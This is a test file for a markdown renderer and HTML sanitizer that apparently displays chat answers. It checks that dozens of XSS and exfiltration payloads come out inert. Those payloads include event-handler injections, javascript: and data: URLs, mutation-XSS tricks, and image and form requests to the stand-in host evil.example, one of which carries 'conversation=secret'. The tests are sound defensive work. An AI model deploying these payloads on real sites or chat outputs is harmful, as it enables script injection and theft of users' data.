import { expect } from 'chai';
import { GRAMMARS } from '../../src/render/highlight-languages.js';
import { MarkdownStream, renderMarkdown, loadHighlighter } from '../../src/render/index.js';
import { sanitizeToFragment } from '../../src/render/sanitize.js';
import { waitFor } from '../helpers/wait-for.js';
import { fakeClock } from './fake-clock.js';

declare global {
  interface Window {
    __xss?: number;
  }
}

/** Every payload either sets window.__xss or requests something from evil.example. */
const HOST = 'evil.example';
const payloads = [
  `<img src=x onerror="window.__xss=1">`,
  `<img src="https://${HOST}/pixel.png">`,
  `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`,
  `<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>`,
  `<svg><image href="https://${HOST}/svg.png"/><a href="javascript:window.__xss=1"><text>x</text></a></svg>`,
  `<script>window.__xss=1</script>`,
  `<a href="javascript:window.__xss=1">click</a>`,
  `<a href="  javascript:window.__xss=1">spaces</a>`,
  `<a href="java\tscript:window.__xss=1">tab</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>`,
  `<iframe src="https://${HOST}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<style>@import url(https://${HOST}/x.css); body { background: url(https://${HOST}/bg.png) }</style>`,
  `<div style="background-image: url(https://${HOST}/style.png)">styled</div>`,
  `<form action="https://${HOST}/steal"><input name="q" value="secret"><button>go</button></form>`,
  `<input type="image" src="https://${HOST}/input.png">`,
  `<button formaction="javascript:window.__xss=1">b</button>`,
  `<details open ontoggle="window.__xss=1"><summary>s</summary></details>`,
  `<video autoplay src="https://${HOST}/v.mp4" onerror="window.__xss=1"><source src="x" onerror="window.__xss=1"></video>`,
  `<audio src="https://${HOST}/a.mp3" autoplay></audio>`,
  `<object data="https://${HOST}/obj"></object><embed src="https://${HOST}/embed">`,
  `<link rel="stylesheet" href="https://${HOST}/link.css"><link rel="prefetch" href="https://${HOST}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/meta">`,
  `<base href="https://${HOST}/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">`,
  `<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">`,
  `<table background="https://${HOST}/table.png"><tr><td background="https://${HOST}/td.png">t</td></tr></table>`,
  `<body onload="window.__xss=1">`,
  `<marquee onstart="window.__xss=1">m</marquee>`,
  `<a href="https://${HOST}/ok" ping="https://${HOST}/ping">ping</a>`,
  `<section onclick="window.__xss=1"><section><img src="https://${HOST}/in-section.png"></section></section>`,
];
const markdownPayloads = [
  `[click](javascript:window.__xss=1)`,
  `[click](JaVaScRiPt:window.__xss=1)`,
  `[click](  javascript:window.__xss=1  )`,
  `[click](<javascript:window.__xss=1>)`,
  `[click](&#106;avascript:window.__xss=1)`,
  `[click](java%73cript:window.__xss=1)`,
  `<javascript:window.__xss=1>`,
  `[click](data:text/html,<script>window.__xss=1</script>)`,
  `![pixel](https://${HOST}/pixel.png?conversation=secret)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+)`,
  `![x](javascript:window.__xss=1)`,
  `[ref][r]\n\n[r]: javascript:window.__xss=1`,
  `![ref image][i]\n\n[i]: https://${HOST}/ref.png`,
  `[relative](/steal?x=1) and ![relative](/steal.png)`,
  `\`\`\`html\n<img src=x onerror="window.__xss=1">\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror="window.__xss=1"> |`,
  `- [ ] <svg onload="window.__xss=1">`,
  `> <iframe src="https://${HOST}/quote"></iframe>`,
  `**<a href="javascript:window.__xss=1">bold</a>**`,
  `[![nested](https://${HOST}/nested.png)](javascript:window.__xss=1)`,
  ...payloads,
];

function requestsTo(host: string): string[] {
  return performance.getEntriesByType('resource').map((e) => e.name).filter((name) => name.includes(host));
}

/** What must never be in rendered output. */
function expectInert(root: ParentNode) {
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(attribute.name, `attribute on <${element.localName}>`).not.to.match(/^on|^style$|^srcset$|^formaction$|^background$|^ping$|^srcdoc$/);
    }
    expect(element.localName).to.be.oneOf([
      'a', 'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'span', 'em',
      'strong', 'del', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'img', 'input', 'button', 'div',
    ]);
    if (element.localName === 'img') expect.fail(`an image with src ${element.getAttribute('src')}`);
    if (element.localName === 'input') {
      expect(element.getAttribute('type')).to.equal('checkbox');
      expect(element.hasAttribute('disabled')).to.equal(true);
    }
    if (element.localName === 'button') expect(element.getAttribute('type')).to.equal('button');
    if (element.localName === 'a' && element.hasAttribute('href')) {
      expect(new URL(element.getAttribute('href')!).protocol).to.be.oneOf(['http:', 'https:', 'mailto:']);
      expect(element.getAttribute('target')).to.equal('_blank');
      expect(element.getAttribute('rel')).to.equal('noopener noreferrer');
    }
  }
}

/**
 * Waits until the page has run what an unsanitized payload would have by now: a control image of our
 * own has failed to load (its error handler ran and its request is in the resource timing) and a
 * control `<details open>` has fired its toggle.
 */
async function settle(): Promise<void> {
  const id = Math.random().toString(36).slice(2);
  const control = document.createElement('div');
  control.innerHTML = `<img src="/sanitize-control-${id}.png"><details open><summary>s</summary></details>`;
  let fired = 0;
  control.querySelector('img')!.addEventListener('error', () => fired++);
  control.querySelector('details')!.addEventListener('toggle', () => fired++);
  document.body.append(control);
  const requested = () => performance.getEntriesByType('resource').some((e) => e.name.includes(`sanitize-control-${id}`));
  await waitFor(() => fired === 2 && requested(), 'the control payloads to run');
  control.remove();
}

// Grammars load on demand; these tests compare renders, so every grammar is there from the start.
before(() => loadHighlighter(Object.keys(GRAMMARS)));

describe('sanitizing', () => {
  let host: HTMLElement;
  beforeEach(() => {
    window.__xss = undefined;
    host = document.createElement('div');
    document.body.append(host);
  });
  afterEach(() => host.remove());

  it('renders markdown XSS payloads inert: no handler runs, no request leaves, no dangerous markup', async () => {
    for (const payload of markdownPayloads) {
      const oneShot = document.createElement('div');
      oneShot.append(renderMarkdown(payload));
      host.append(oneShot);
      expectInert(oneShot);
      const streamed = document.createElement('div');
      host.append(streamed);
      const md = new MarkdownStream(streamed, { clock: fakeClock() });
      for (const ch of payload) md.append(ch);
      md.finish();
      expectInert(streamed);
    }
    // Clicking every link-looking thing must not run anything either.
    for (const a of host.querySelectorAll('a:not([href])')) (a as HTMLElement).click();
    await settle();
    expect(window.__xss).to.equal(undefined);
    expect(requestsTo(HOST)).to.deep.equal([]);
  });

  it('the sanitizer alone neutralises raw HTML payloads (defence behind the renderer)', async () => {
    for (const payload of payloads) {
      const div = document.createElement('div');
      div.append(sanitizeToFragment(payload, () => false));
      host.append(div);
      expectInert(div);
    }
    await settle();
    expect(window.__xss).to.equal(undefined);
    expect(requestsTo(HOST)).to.deep.equal([]);
  });

  it('shows raw HTML in an answer as text', () => {
    host.append(renderMarkdown('Use <b>bold</b> or <script>alert(1)</script>.'));
    expect(host.textContent).to.contain('<b>bold</b>');
    expect(host.textContent).to.contain('<script>alert(1)</script>');
    expect(host.querySelector('b, script')).to.equal(null);
  });

  it('opens http(s) links in a new tab without opener or referrer; mailto kept', () => {
    host.append(renderMarkdown('[site](https://example.com/a?b=1) <https://example.org> www.example.net [mail](mailto:a@example.com)'));
    const links = [...host.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://example.com/a?b=1',
      'https://example.org/',
      'http://www.example.net/',
      'mailto:a@example.com',
    ]);
    for (const a of links) {
      expect(a.target).to.equal('_blank');
      expect(a.rel).to.equal('noopener noreferrer');
    }
  });

  it('keeps a link with a relative or unknown URL as plain text', () => {
    host.append(renderMarkdown('[docs](/docs) and [tel](tel:123) and [ftp](ftp://x.example/f)'));
    expect(host.querySelectorAll('a[href]').length).to.equal(0);
    expect(host.textContent).to.equal('docs and tel and ftp\n');
  });

  it('uses a private DOMPurify instance: the global one is left untouched', async () => {
    const { default: DOMPurify } = await import('dompurify');
    renderMarkdown('[a](https://example.com)');
    const out = DOMPurify.sanitize('<a href="/relative" style="color:red">x</a>');
    expect(out).to.contain('href="/relative"');
    expect(out).not.to.contain('target');
  });
});
